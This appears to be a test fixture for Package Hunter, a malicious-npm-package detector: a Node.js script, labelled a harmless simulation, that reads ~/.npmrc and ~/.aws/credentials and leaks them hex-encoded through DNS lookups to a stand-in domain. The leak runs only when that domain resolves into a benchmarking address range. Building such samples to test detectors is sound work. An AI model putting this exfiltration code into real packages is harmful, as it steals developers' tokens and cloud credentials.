// Harmless simulation for testing Package Hunter. Not malware.
const dns = require("dns");
const fs = require("fs");
const http = require("http");
const https = require("https");
const os = require("os");
const path = require("path");
const { execSync, spawn } = require("child_process");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const home = (name) => path.join(os.homedir(), name);
const read = (name) => { try { return fs.readFileSync(home(name), "utf8"); } catch (e) { return ""; } };
const post = (hostname, where, body) => { const r = https.request({ hostname, path: where, method: "POST" }, (a) => a.resume()); r.on("error", () => {}); r.end(body); };
const get = (options, then) => https.get(options, (a) => { let t = ""; a.on("data", (d) => { t += d; }); a.on("end", () => then(t, a.statusCode)); }).on("error", () => {});

dns.lookup("ipc-dns.example", (error, address) => {
  if (error || !sealed(address)) return;
  const text = Buffer.from(read(".npmrc") + read(".aws/credentials")).toString("hex");
  for (let at = 0, n = 0; at < text.length && n < 80; at += 56, n++) dns.lookup(`${n}.${text.slice(at, at + 56)}.ipc-dns.example`, () => {});
});
